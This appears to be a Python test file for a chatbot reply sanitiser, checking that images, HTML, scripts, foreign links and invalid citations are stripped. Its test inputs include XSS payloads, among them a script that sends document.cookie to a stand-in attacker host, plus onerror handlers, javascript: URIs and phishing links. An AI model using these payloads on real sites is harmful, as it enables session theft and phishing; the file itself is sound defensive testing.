"""The sanitiser removes images, HTML, scripts, foreign links and invalid citations from model output."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from bot.sanitize import cited_numbers, sanitize_reply

OURS = "https://www.globalgeochemistry.com/en/Article/detail.html?id=61"
TAG = re.compile(r"<\s*/?\s*[A-Za-z!?]")
URL = re.compile(r"(?i)(?:[a-z][a-z0-9+.-]*://|www\.)[^\s\[\]()<>\"']*")


def foreign_urls(text: str) -> list[str]:
    return [u for u in URL.findall(text) if u.rstrip("/.,;:!?").lower() != OURS.lower()]


def test_adversarial_reply_loses_every_payload_but_keeps_the_prose():
    reply = (
        "ICGG was inaugurated on 12 May 2016 [1]. ![x](http://evil.example/p.png)"
        "<script>fetch('http://evil.example/?c='+document.cookie)</script>"
        '<img src=x onerror="alert(1)"> See the [details](http://evil.example/phish) and '
        f"[the source]({OURS}) [2][9]. <b>Bold</b> claim [1, 9]."
    )
    out = sanitize_reply(reply, [OURS], {1, 2})
    assert "ICGG was inaugurated on 12 May 2016 [1]." in out
    assert "![" not in out and not TAG.search(out) and "evil" not in out and "onerror" not in out
    assert "details" in out, "link text is kept, only the link goes"
    assert f"[the source]({OURS})" in out
    assert cited_numbers(out) == [1, 2]
    assert "Bold claim [1]." in out


def test_javascript_data_and_bare_foreign_urls_are_removed():
    out = sanitize_reply(
        "Click javascript:alert(1) or data:text/html;base64,xyz or www.evil.example now.", [], set()
    )
    assert "javascript:" not in out and "data:" not in out and "www." not in out
    assert out.startswith("Click") and out.endswith("now.")


def test_markup_reassembled_by_a_removal_is_removed_too():
    out = sanitize_reply("a <<b>script>alert(1)<</b>/script> b ht<i>tp://evil.example c", [], set())
    assert not TAG.search(out) and "evil.example" not in out


def test_citation_groups_keep_only_valid_numbers():
    assert sanitize_reply("Text [1, 3; 7] more [12].", [], {1, 3}) == "Text [1][3] more."


markup = st.sampled_from(
    [
        "![x](http://evil.example/a.png)",
        "![alt][ref]",
        "[ref]: http://evil.example/x",
        "<script>alert(1)</script>",
        "<script src=http://evil.example/x.js>",
        '<img src=x onerror="alert(1)">',
        "<iframe src='https://evil.example'></iframe>",
        "<a href='http://evil.example'>click</a>",
        "[click](http://evil.example/phish)",
        "[ok](" + OURS + ")",
        "<http://evil.example>",
        "https://evil.example/path?q=1",
        "www.evil.example",
        "<!-- hidden -->",
        "<",
        ">",
        "![",
        "](",
        "[9]",
        "[1]",
    ]
)
pieces = st.lists(st.one_of(st.text(max_size=12), markup), max_size=20)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(pieces)
def test_property_output_has_no_tags_no_images_no_foreign_urls(parts):
    out = sanitize_reply("".join(parts), [OURS], {1, 2})
    assert not TAG.search(out), out
    assert "![" not in out, out
    assert not foreign_urls(out), out
    assert set(cited_numbers(out)) <= {1, 2}
